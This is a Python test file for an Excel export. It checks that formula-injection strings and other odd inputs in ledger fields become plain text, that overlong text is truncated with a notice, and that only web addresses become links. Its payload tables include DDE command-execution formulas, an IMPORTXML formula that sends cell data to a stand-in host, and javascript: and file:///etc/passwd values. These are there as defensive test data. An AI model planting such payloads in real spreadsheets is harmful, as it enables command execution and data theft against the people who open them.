"""Whatever stands in a field is text in its cell: never a formula, never cut in silence, never a broken file."""

from __future__ import annotations

import zipfile
from functools import cache
from io import BytesIO
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ecocheck.render.text.escape import visible
from tests.excel.making import ALL, cells, excel, heads, ledger_of, opened, rows
from tests.report.poison import poisoned
from tests.report.test_injection import NASTY

pytestmark = pytest.mark.needs("openpyxl")

FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "＝1+1", "＋1", "－1", "＠x", "\t=1+1", "\r=1+1", " =1+1", "\n=1+1", "'=1+1",
    "=cmd|' /C calc'!A0", '=HYPERLINK("http://e.invalid","x")', "{=1+1}", "=", "-", "+", "@",
    '=IMPORTXML(CONCAT("http://e.invalid/",A1),"//a")', '=DDE("cmd","/C calc","x")',
)  # fmt: skip # a table, read by rows
ODD = (
    "_x000D_", "_x0000_", "_xFFFF_", "&P", "&[Page]", "&Cx", "<t>", "</si>", "]]>", "&#0;", "\x0b", "\x7f",
    "\ufffe", "\uffff", "\ud800", "\U0001f600", "internal:Sheet1!A1", "external:c:\\x.xlsx", "mailto:a@e.invalid",
    "javascript:alert(1)", "file:///etc/passwd", "ftp://e.invalid", "\\\\server\\share", "#REF!", "TRUE", "1e3", "1/2",
)  # fmt: skip # a table, read by rows


@cache
def clean() -> Any:
    """The workbook of everything, with nothing nasty in it."""
    return opened(excel(ledger_of(ALL)))


def assert_harmless(nasty: str) -> None:
    ledger = ledger_of(ALL)
    content = excel(poisoned(ledger, nasty))
    book, before = opened(content), clean()
    assert book.sheetnames == before.sheetnames
    said = visible(nasty)
    for page in book:
        assert (page.max_row, page.max_column) == (before[page.title].max_row, before[page.title].max_column)
        for cell in cells(page):
            assert cell.data_type in {"s", "n", "d"}, cell.coordinate
            assert cell.data_type != "s" or not str(cell.value).startswith("\x00")
    for row, one in zip(rows(book["指标台账"]), ledger.criteria, strict=True):
        assert row["判定项"].value == f"{said}{visible(one.row.name)}{said}"
        assert row["判定项"].data_type == "s"
    assert nasty_links(content) == set()


def nasty_links(content: bytes) -> set[str]:
    """Addresses that lead elsewhere than to the web."""
    with zipfile.ZipFile(BytesIO(content)) as archive:
        found = [archive.read(name).decode() for name in archive.namelist() if name.endswith(".rels")]
    targets = {piece.split('"')[0] for text in found for piece in text.split('Target="')[1:] if "External" in text}
    return {one for one in targets if not one.startswith(("http://", "https://")) and "://" in one}


@pytest.mark.parametrize("nasty", [*FORMULAS, *ODD, *NASTY], ids=repr)
def test_nothing_in_any_field_takes_effect(nasty: str) -> None:
    assert_harmless(nasty)


@settings(max_examples=40)
@given(nasty=st.text(st.characters(), min_size=1, max_size=6))
def test_no_mixture_of_any_characters_takes_effect(nasty: str) -> None:
    assert_harmless(nasty)


def test_what_looks_like_a_formula_bears_the_mark_of_text() -> None:
    page = opened(excel(poisoned(ledger_of(ALL), "=1+1")))["指标台账"]
    assert all(row["判定项"].quotePrefix for row in rows(page))
    plain = opened(excel(ledger_of(ALL)))["指标台账"]
    assert not any(row["判定项"].quotePrefix for row in rows(plain))


@pytest.mark.parametrize("length", [32_767, 32_768, 100_000])
def test_text_that_no_cell_holds_ends_in_saying_so(length: int) -> None:
    from ecocheck.render.formats.excel.values import LONGEST, cut

    text = "长" * length
    assert (cut(text, "zh") == text) == (length <= LONGEST)
    if length > LONGEST:
        assert cut(text, "zh").endswith(f"（全文共{length}字，见数据文件）")
    assert len(cut(text, "zh")) <= LONGEST


def test_long_text_outside_the_first_plane_is_counted_as_excel_does() -> None:
    from ecocheck.render.formats.excel.values import LONGEST, cut

    made = cut("\U00020000" * 20_000, "zh")
    assert len(made.encode("utf-16-le")) // 2 <= LONGEST
    assert "\U00020000" * 16_000 in made


def test_a_workbook_full_of_long_text_still_opens() -> None:
    page = opened(excel(poisoned(ledger_of(ALL), "长" * 33_000)))["指标台账"]
    assert heads(page)
    assert all(len(cell.value) <= 32_767 for cell in cells(page) if cell.data_type == "s")


def test_only_addresses_of_the_web_are_links() -> None:
    from ecocheck.render.formats.excel.values import Link
    from tests.excel.linking import sheet_with

    page = opened(sheet_with([Link("https://e.invalid/a?b=1#c"), Link("javascript:alert(1)"), "http://e.invalid"]))["x"]
    links = [cell.hyperlink for cell in page["A"][3:]]
    assert (links[0].target, links[0].location) == ("https://e.invalid/a?b=1", "c")
    assert links[1:] == [None, None]
